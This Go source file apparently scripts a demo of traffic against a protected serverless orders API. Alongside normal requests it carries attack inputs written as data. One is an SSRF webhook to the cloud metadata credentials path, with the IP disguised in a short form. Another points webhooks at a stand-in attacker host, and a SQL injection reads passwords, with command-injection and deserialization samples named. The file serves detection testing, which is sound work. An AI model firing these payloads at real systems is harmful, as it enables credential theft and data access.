package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
)

// A step is one act of the scenario: its invocations, sent in order.
type step struct {
	name  string
	calls []call
}

// A call is one invocation: a label for the tables and its event.
type call struct {
	label   string
	payload []byte
}

// httpEvent is an API Gateway HTTP API (payload v2) request from ip.
func httpEvent(method, path, query, body, ip string) []byte {
	ev := map[string]any{
		"version": "2.0", "routeKey": "$default", "rawPath": path, "rawQueryString": query,
		"headers": map[string]string{
			"accept": "application/json", "content-type": "application/json", "host": "orders.example.com",
			"user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "x-forwarded-for": ip,
		},
		"requestContext": map[string]any{
			"accountId": "123456789012", "apiId": "abc123", "domainName": "orders.example.com", "requestId": "demo",
			"http":  map[string]string{"method": method, "path": path, "protocol": "HTTP/1.1", "sourceIp": ip, "userAgent": "Mozilla/5.0"},
			"stage": "$default",
		},
		"isBase64Encoded": false,
	}
	if body != "" {
		ev["body"] = body
	}
	b, _ := json.Marshal(ev)
	return b
}

// The outbound step's destinations: a host the function has never called
// (it need not resolve: a call to it is recorded all the same), and the
// instance metadata, 169.254.169.254, as inet_aton reads 169.254.43518.
const (
	newHost       = "http://hooks.attacker.example"
	metadataShort = "http://169.254.43518/latest/meta-data/iam/security-credentials/"
)

// scenario is the script: steady traffic from every source, order
// webhooks to a never-seen host and to the instance metadata, injection
// attempts on each, a client that keeps trying, a slow-down, an error
// burst, an attack wave from many addresses, and then the quarantine the
// policy asks for. events is the directory of sample events.
func scenario(events string) ([]step, error) {
	sample := map[string][]byte{}
	for _, name := range []string{"sqs-clean.json", "s3-clean.json", "direct-invoke-clean.json",
		"sqs-batch-one-poisoned.json", "s3-key-command-injection.json", "direct-invoke-deserialization.json"} {
		b, err := os.ReadFile(filepath.Join(events, name))
		if err != nil {
			return nil, fmt.Errorf("demo: sample event: %w (run from the repository root, or set -events)", err)
		}
		sample[strings.TrimSuffix(name, ".json")] = b
	}
	client := func(i int) string { return fmt.Sprintf("198.51.100.%d", 10+i%40) }
	order := `{"customer":{"name":"Tim O'Reilly","email":"tim@example.com"},"items":[{"sku":"BK-1001","qty":2}],"payment":"card","note":"please select a union rep"}`
	giftcard := strings.Replace(order, `"payment":"card"`, `"payment":"giftcard"`, 1)
	sqli := "customer=42%27%20UNION%20SELECT%20password%20FROM%20users--"

	var steady []call
	for i := range 60 {
		switch i % 6 {
		case 0, 1:
			steady = append(steady, call{"HTTP GET /orders", httpEvent("GET", "/orders", fmt.Sprintf("customer=%d", i), "", client(i))})
		case 2:
			steady = append(steady, call{"HTTP POST /orders", httpEvent("POST", "/orders", "", order, client(i))})
		case 3:
			steady = append(steady, call{"SQS batch", sample["sqs-clean"]})
		case 4:
			steady = append(steady, call{"S3 upload", sample["s3-clean"]})
		case 5:
			steady = append(steady, call{"direct invoke", sample["direct-invoke-clean"]})
		}
	}
	repeat := func(n int, c func(i int) call) []call {
		out := make([]call, n)
		for i := range out {
			out[i] = c(i)
		}
		return out
	}
	// The customer's webhook: a host the function never called, and the
	// instance metadata written in a short form (rule 100110 catches it;
	// the wrapper's dial-time guard would too).
	webhook := func(target string) string {
		return strings.Replace(order, `"payment":"card"`, `"payment":"card","notify_url":"`+target+`"`, 1)
	}
	return []step{
		{"steady traffic from four sources", steady},
		{"order webhooks to a never-seen host", []call{
			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.77")},
			{"HTTP POST, webhook at hooks.attacker.example", httpEvent("POST", "/orders", "", webhook(newHost+"/orders"), "198.51.100.78")},
		}},
		{"SSRF: metadata webhook", []call{
			{"HTTP POST, webhook at 169.254.43518", httpEvent("POST", "/orders", "", webhook(metadataShort), "198.51.100.79")},
		}},
		{"injection attempts, one per source", []call{
			{"HTTP SQL injection", httpEvent("GET", "/orders", sqli, "", "203.0.113.7")},
			{"SQS batch, one poisoned record", sample["sqs-batch-one-poisoned"]},
			{"S3 key command injection", sample["s3-key-command-injection"]},
			{"direct invoke deserialization", sample["direct-invoke-deserialization"]},
		}},
		{"one client keeps trying", append(repeat(3, func(int) call {
			return call{"HTTP SQL injection from 203.0.113.66", httpEvent("GET", "/orders", sqli, "", "203.0.113.66")}
		}),
			call{"HTTP GET from 203.0.113.66", httpEvent("GET", "/orders", "customer=7", "", "203.0.113.66")},
			call{"HTTP GET from another client", httpEvent("GET", "/orders", "customer=8", "", client(1))},
		)},
		{"slow-down: the report query", repeat(8, func(i int) call {
			return call{"HTTP GET /orders/report", httpEvent("GET", "/orders/report", "", "", client(i))}
		})},
		{"error burst: gift cards down", repeat(8, func(i int) call {
			return call{"HTTP POST gift-card order", httpEvent("POST", "/orders", "", giftcard, client(i))}
		})},
		{"attack wave from many addresses", repeat(6, func(i int) call {
			return call{"HTTP SQL injection", httpEvent("GET", "/orders", sqli, "", fmt.Sprintf("192.0.2.%d", 20+i))}
		})},
		{"quarantine", []call{
			{"HTTP GET /orders", httpEvent("GET", "/orders", "customer=9", "", client(2))},
			{"HTTP POST /orders", httpEvent("POST", "/orders", "", order, client(3))},
			{"SQS batch", sample["sqs-clean"]},
			{"S3 upload", sample["s3-clean"]},
			{"direct invoke", sample["direct-invoke-clean"]},
		}},
	}, nil
}
